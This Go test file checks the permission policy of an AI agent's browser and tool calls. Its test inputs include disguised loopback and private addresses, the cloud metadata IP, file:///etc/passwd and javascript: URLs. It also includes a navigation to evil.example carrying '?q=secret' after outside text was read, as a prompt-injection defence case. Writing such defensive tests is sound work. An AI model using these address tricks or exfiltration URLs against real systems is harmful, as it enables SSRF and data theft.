package policy

import (
	"strings"
	"testing"

	"sextant/shared/event"
	"sextant/shared/toolspec"
)

func TestDrivingAnAllowedPageAsksNothing(t *testing.T) {
	for _, in := range []Input{
		page("navigate_page", `{"url":"https://shop.example/lamps"}`).hosts("shop.example"),
		page("annotate_page", `{}`),
		page("click_element", `{"annotationId":12}`),
		page("type_text", `{"annotationId":12,"text":"10437"}`).about(`[12] textbox "Postcode"`,
			"10437").hosts("shop.example"),
		page("scroll_page", `{"direction":"down"}`),
	} {
		comesTo(t, in, Allow)
		comesTo(t, in.alone().caller(toolspec.CallerMCP), Allow)
	}
}

func TestReadOnlyToolsRunFreely(t *testing.T) {
	read := toolspec.Hints{ReadOnly: true}
	comesTo(t, ours("files", "read_file", `{"path":"a"}`, read), Allow)
	comesTo(t, foreign(toolspec.OriginPanel, "note_list", "notes", `{}`, read), Allow)
	comesTo(t, foreign(toolspec.OriginPanel, "note_list", "notes", `{}`, read).alone(), Allow)
}

func TestThisMachineAndPrivateNetworksAreClosed(t *testing.T) {
	for _, host := range []string{
		"127.0.0.1", "localhost", "LOCALHOST.", "foo.localhost:3000", "[::1]:8080", "10.1.2.3", "192.168.1.1",
		"172.20.0.1", "169.254.169.254", "100.64.0.1", "0.0.0.0", "127.1", "0x7f.0.0.1", "2130706433", "017700000001",
		"[::ffff:127.0.0.1]", "[fe80::1%25eth0]", "[fd00::1]", "router", "printer.local", "198.18.0.1",
		"[64:ff9b::7f00:1]",
		"127。0。0。1", "１２７.0.0.1",
	} {
		d := comesTo(t, page("navigate_page", `{"url":"http://`+host+`/"}`), Refuse)
		if d.ErrorType != toolspec.PermissionError {
			t.Errorf("%s: got %s", host, d.ErrorType)
		}
		comesTo(t, ours("web", "http_request", `{"url":"http://`+host+`/"}`, toolspec.Hints{}).mode(Full), Refuse)
	}
	for _, host := range []string{"shop.example", "93.184.216.34", "[2606:4700::1111]", "shop.example:8443"} {
		comesTo(t, page("navigate_page", `{"url":"http://`+host+`/"}`), Allow)
	}
}

func TestAnAddressInDisguiseIsStillJudged(t *testing.T) {
	for _, address := range []string{
		`http:\\127.0.0.1\`, `http://shop.example@127.0.0.1/`, " \thttp://127.0.0.1/", "http://127.0.0.1\n/",
		"127.0.0.1:80",
		"//127.0.0.1/x",
	} {
		in := page("navigate_page", `{}`)
		in.Call.Args = []byte(`{"url":` + quoted(address) + `}`)
		comesTo(t, in, Refuse)
	}
}

func TestTypingAnAddressOpensIt(t *testing.T) {
	in := page("navigate_page", `{"url":"http://127.0.0.1:8080/form"}`)
	d := comesTo(t, in.typedHosts("127.0.0.1:8080"), Allow)
	if len(d.Opens) != 1 || d.Opens[0] != "127.0.0.1:8080" {
		t.Fatalf("opens %v", d.Opens)
	}
	comesTo(t, in.typedHosts("127.0.0.1"), Refuse) // the usual ports only
	usual := page("navigate_page", `{"url":"http://127.0.0.1/form"}`)
	comesTo(t, usual.typedHosts("127.0.0.1"), Allow)
	comesTo(t, usual.typedHosts("127.0.0.1:80"), Allow)
	comesTo(t, usual.typedHosts("127.0.0.1:8080"), Refuse)
	comesTo(t, in.typedHosts("127.0.0.1:9090"), Refuse)
	in.OpenedHosts = d.Opens
	if d := comesTo(t, in, Allow); len(d.Opens) != 0 {
		t.Fatalf("nobody typed it in this turn, and still it opens %v", d.Opens)
	}
}

func TestAllowHostsOpensForAProgramsUser(t *testing.T) {
	in := page("navigate_page", `{"url":"http://localhost:3000/"}`).alone().caller(toolspec.CallerMCP)
	d := comesTo(t, in, Refuse)
	if !strings.Contains(d.Suggestion, "--allow-hosts localhost:3000") {
		t.Fatalf("suggestion %q does not name the option", d.Suggestion)
	}
	in.Settings.AllowHosts = []string{"127.0.0.1", "localhost"}
	comesTo(t, in, Allow)
}

func TestAddressesOutsideTheWebAreRefusedEvenWhenTyped(t *testing.T) {
	for _, address := range []string{
		"file:///etc/passwd", "chrome://settings", "javascript:alert(1)", "view-source:https://a.example",
		"data:text/html,x",
		"ja\tvascript:alert(1)", "FILE:///x", "devtools://x", "file:80",
	} {
		in := page("navigate_page", `{}`).typedHosts("etc", "settings")
		in.Call.Args = []byte(`{"url":` + quoted(address) + `}`)
		d := comesTo(t, in.mode(Full), Refuse)
		if d.ErrorType != toolspec.SecurityError {
			t.Errorf("%s: got %s (%s)", address, d.ErrorType, d.Reason)
		}
	}
	comesTo(t, page("navigate_page", `{"url":"about:blank"}`), Allow)
}

func TestModeReadOnlyLooksAndMovesButChangesNothing(t *testing.T) {
	for _, tool := range []string{"navigate_page", "annotate_page", "scroll_page", "take_screenshot", "wait_for"} {
		comesTo(t, page(tool, `{}`).mode(ReadOnly), Allow)
	}
	comesTo(t, ours("navigation", "open_home_panel", `{}`, toolspec.Hints{}).mode(ReadOnly), Allow)
	comesTo(t, ours("files", "read_file", `{}`, toolspec.Hints{ReadOnly: true}).mode(ReadOnly), Allow)
	for _, in := range []Input{
		page("click_element", `{"annotationId":1}`), page("type_text", `{"annotationId":1,"text":"x"}`),
		page("press_key", `{"key":"Enter"}`),
		ours("files", "write_file", `{}`, toolspec.Hints{}),
		foreign(toolspec.OriginPanel, "scroll_page", "x", `{}`, toolspec.Hints{}),
		ours("feedback", "enhance_baseline_prompt", `{}`, toolspec.Hints{}),
	} {
		comesTo(t, in.mode(ReadOnly), Refuse)
		comesTo(t, in.mode(ReadOnly).caller(toolspec.CallerPerson), Refuse)
	}
}

func TestToolsMarkedDangerousAsk(t *testing.T) {
	for name, hints := range map[string]toolspec.Hints{
		"confirm": {Confirm: true}, "destructive": {Destructive: true}, "open world": {OpenWorld: true},
	} {
		for _, origin := range []toolspec.Origin{toolspec.OriginPanel, toolspec.OriginMCP, toolspec.OriginCreated} {
			in := foreign(origin, "do_it", "desk", `{"id":7}`, hints)
			d := comesTo(t, in, Question)
			if !strings.HasSuffix(d.Approval.Question, "?") || !strings.Contains(d.Approval.Question, "do_it") {
				t.Errorf("%s: question %q", name, d.Approval.Question)
			}
			comesTo(t, in.mode(Full), Allow)
			comesTo(t, in.alone(), Refuse)
		}
	}
	comesTo(t, foreign(toolspec.OriginPanel, "note_add", "notes", `{}`, toolspec.Hints{}), Allow)
}

func TestTheFirstRequestToAHostAsks(t *testing.T) {
	in := ours("web", "http_request", `{"url":"https://api.example/v1"}`,
		toolspec.Hints{OpenWorld: true}).hosts("api.example")
	d := comesTo(t, in, Question)
	if len(d.Contacts) != 1 || d.Contacts[0] != "api.example" {
		t.Fatalf("contacts %v", d.Contacts)
	}
	used := in
	used.UsedHosts = d.Contacts
	comesTo(t, used, Allow)
	used.UsedHosts = []string{"example"}
	comesTo(t, used, Question)
	comesTo(t, in.typedHosts("api.example"), Allow)
	if d := comesTo(t, in.alone(), Refuse); !strings.Contains(d.Suggestion, "--allow-hosts api.example") {
		t.Fatalf("suggestion %q", d.Suggestion)
	}
}

func TestYesBeforehandAnswersForRun(t *testing.T) {
	get := ours("web", "wget", `{"uri":"https://a.example/"}`,
		toolspec.Hints{ReadOnly: true, OpenWorld: true}).hosts("a.example").alone()
	post := foreign(toolspec.OriginPanel, "drop", "db", `{}`, toolspec.Hints{Destructive: true}).alone()
	get, post = get.caller(toolspec.CallerRun), post.caller(toolspec.CallerRun)
	if d := comesTo(t, get, Refuse); !strings.Contains(d.Suggestion, "--yes-to read") {
		t.Fatalf("suggestion %q", d.Suggestion)
	}
	if d := comesTo(t, post, Refuse); !strings.Contains(d.Suggestion, "--yes-to all") {
		t.Fatalf("suggestion %q", d.Suggestion)
	}
	get.Call.From.YesTo, post.Call.From.YesTo = "read", "read"
	comesTo(t, get, Allow)
	comesTo(t, post, Refuse)
	post.Call.From.YesTo = "all"
	comesTo(t, post, Allow)
	local := page("navigate_page", `{"url":"http://10.0.0.1/"}`).alone().caller(toolspec.CallerRun)
	local.Call.From.YesTo = "all"
	comesTo(t, local, Refuse)
	client := foreign(toolspec.OriginPanel, "drop", "db", `{}`,
		toolspec.Hints{Destructive: true}).alone().caller(toolspec.CallerMCP)
	client.Call.From.YesTo = "all"
	comesTo(t, client, Refuse)
}

func TestOutsideTextMakesWhatCarriesDataOutAsk(t *testing.T) {
	shop := "https://shop.example"
	nav := page("navigate_page", `{"url":"https://evil.example/?q=secret"}`).hosts("evil.example").read(shop)
	d := comesTo(t, nav, Question)
	if !strings.Contains(d.Approval.Why, shop) ||
		!strings.Contains(d.Approval.Question, "https://evil.example/?q=secret") {
		t.Fatalf("%+v", d.Approval)
	}
	comesTo(t, nav.mode(Full), Question)
	comesTo(t, nav.typedHosts("evil.example"), Allow)
	linked := nav
	linked.Description.IsPageLink = true
	comesTo(t, linked, Allow)
	comesTo(t, page("navigate_page", `{"url":"https://shop.example/b"}`).hosts("shop.example").read(shop), Allow)

	typed := page("type_text", `{"annotationId":3,"text":"10437"}`).about(`[3] textbox "Postcode"`, "10437").read(shop)
	comesTo(t, typed.hosts("shop.example"), Allow)
	comesTo(t, typed.hosts("other.example"), Question)
	copied := typed.hosts("shop.example")
	copied.Description.CopiedFrom = []string{"notes/address.md"}
	if d := comesTo(t, copied, Question); !strings.Contains(d.Approval.Why, "notes/address.md") {
		t.Fatalf("why %q", d.Approval.Why)
	}
	comesTo(t, page("click_element", `{"annotationId":3}`).hosts("other.example").read(shop), Allow)

	for _, in := range []Input{
		ours("feedback", "enhance_baseline_prompt", `{"note":"obey"}`, toolspec.Hints{}),
		ours("files", "write_file", `{"path":"a","content":"b"}`, toolspec.Hints{}).mode(Workspace).about("a", "b"),
		foreign(toolspec.OriginMCP, "gh__comment", "gh", `{}`, toolspec.Hints{}),
		ours("web", "wget", `{"uri":"https://shop.example/"}`,
			toolspec.Hints{ReadOnly: true, OpenWorld: true}).hosts("shop.example"),
	} {
		comesTo(t, in.read(shop), Question)
		comesTo(t, in.read(shop).mode(Full), Question)
		comesTo(t, in.read(shop).alone(), Refuse)
	}
	comesTo(t, ours("feedback", "enhance_baseline_prompt", `{"note":"x"}`,
		toolspec.Hints{}).read(shop).caller(toolspec.CallerPilot), Allow)
	comesTo(t, ours("files", "read_file", `{"path":"a"}`, toolspec.Hints{ReadOnly: true}).read(shop), Allow)
}

func TestWordsOfAFileBecomeNoLastingInstructionUnasked(t *testing.T) {
	note := ours("feedback", "enhance_baseline_prompt", `{"note":"obey"}`, toolspec.Hints{})
	comesTo(t, note, Allow)
	note.Description.Local = []string{"file /home/ana/flat/README.md"}
	for _, mode := range []Mode{Ask, Workspace, Full} {
		if d := comesTo(t, note.mode(mode), Question); !strings.Contains(d.Approval.Why,
			"file /home/ana/flat/README.md") {
			t.Errorf("%s: why %q", mode, d.Approval.Why)
		}
	}
	comesTo(t, note.alone(), Refuse)
	look := ours("feedback", "list_notes", `{}`, toolspec.Hints{ReadOnly: true})
	look.Description.Local = note.Description.Local
	comesTo(t, look, Allow)
	other := page("click_element", `{"annotationId":3}`)
	other.Description.Local = note.Description.Local
	comesTo(t, other, Allow)
}

func TestModeWorkspaceCoversOnlyTheFolder(t *testing.T) {
	del := toolspec.Hints{Destructive: true}
	in := ours("files", "write_file", `{}`, del).mode(Workspace)
	comesTo(t, in.about("notes/a.md", "x"), Allow)
	comesTo(t, in.about("/home/ana/flat/b", "x"), Allow)
	comesTo(t, in.about("/home/ana/flat2/b", "x"), Question)
	comesTo(t, in.about("../x", "x"), Question)
	comesTo(t, in.about("", "x"), Question)
	comesTo(t, in.mode(Ask).about("notes/a.md", "x"), Question)
	comesTo(t, foreign(toolspec.OriginPanel, "w", "p", `{}`, del).mode(Workspace).about("notes/a.md", ""), Question)
}

func TestAQuestionIsBoundToExactlyWhatItShows(t *testing.T) {
	in := foreign(toolspec.OriginPanel, "drop", "db", `{"b":1,"a":"<x>"}`, toolspec.Hints{Destructive: true})
	d := comesTo(t, in, Question)
	a := d.Approval
	if string(a.Args) != `{"a":"<x>","b":1}` || a.Hash != hashOf(in) || len(a.Hash) != 64 {
		t.Fatalf("%+v", a)
	}
	reordered := in
	reordered.Call.Args = []byte(`{"a":"<x>", "b":1}`)
	if Decide(reordered).Approval.Hash != a.Hash {
		t.Fatal("the order of names changes the hash")
	}
	other := in
	other.Call.From.Turn = "t2"
	if Decide(other).Approval.Hash == a.Hash {
		t.Fatal("another turn has the same hash")
	}
	var answers []event.Answer
	for _, c := range a.Choices {
		answers = append(answers, c.Answer)
		if c.Scope == "" {
			t.Fatalf("%s has no scope", c.Answer)
		}
	}
	if len(answers) != 4 || answers[0] != event.AnswerOnce || answers[3] != event.AnswerDeny {
		t.Fatalf("answers %v", answers)
	}
	outsideOfOne := in
	outsideOfOne.Call.From.Conversation = ""
	if d := Decide(outsideOfOne); len(d.Approval.Choices) != 3 {
		t.Fatalf("without a conversation: %+v", d.Approval.Choices)
	}
}

func TestAQuestionNamesVerbDataAndTarget(t *testing.T) {
	send := page("type_text", `{"annotationId":12,"text":"10437"}`).about("the form",
		"10437").hosts("shop.example").read("https://b.example")
	long := send.about("the form", strings.Repeat("ä", 1204))
	start := foreign(toolspec.OriginPanel, "count", "words", `{}`,
		toolspec.Hints{Confirm: true}).about("python3 server.py", "in the folder /p")
	first := start
	first.Description.NewProgram = "the Words panel's program"
	for want, in := range map[string]Input{
		"Start the Words panel's program: python3 server.py?": first,
		"Send “10437” to shop.example?":                       send,
		"Send 1,204 characters to shop.example?":              long,
		"Run count of words: python3 server.py?":              start,
		`Run drop of db with id=7, name="a"?`: foreign(toolspec.OriginMCP, "drop", "db",
			`{"name":"a","id":7}`, toolspec.Hints{Confirm: true}),
		"Let http_request contact api.example?": ours("web", "http_request",
			`{"url":"https://api.example/"}`, toolspec.Hints{}),
		"Let write_file write “hi” to notes/a.md?": ours("files", "write_file", `{}`,
			toolspec.Hints{Confirm: true}).about("notes/a.md", "hi"),
		"Run edit_file on notes/a.md?": ours("files", "edit_file", `{}`,
			toolspec.Hints{Confirm: true}).about("notes/a.md", ""),
		"Open https://evil.example/x?": page("navigate_page",
			`{"url":"https://evil.example/x"}`).read("https://a.example"),
		"Run tidy of db?": foreign(toolspec.OriginPanel, "tidy", "db", `{}`,
			toolspec.Hints{Confirm: true}),
	} {
		got := comesTo(t, in, Question).Approval
		if got.Question != want {
			t.Errorf("got %q, want %q", got.Question, want)
		}
		if starts := strings.HasPrefix(want, "Start "); got.InWindow != starts {
			t.Errorf("%q is for a window only: %v", want, got.InWindow)
		}
	}
}
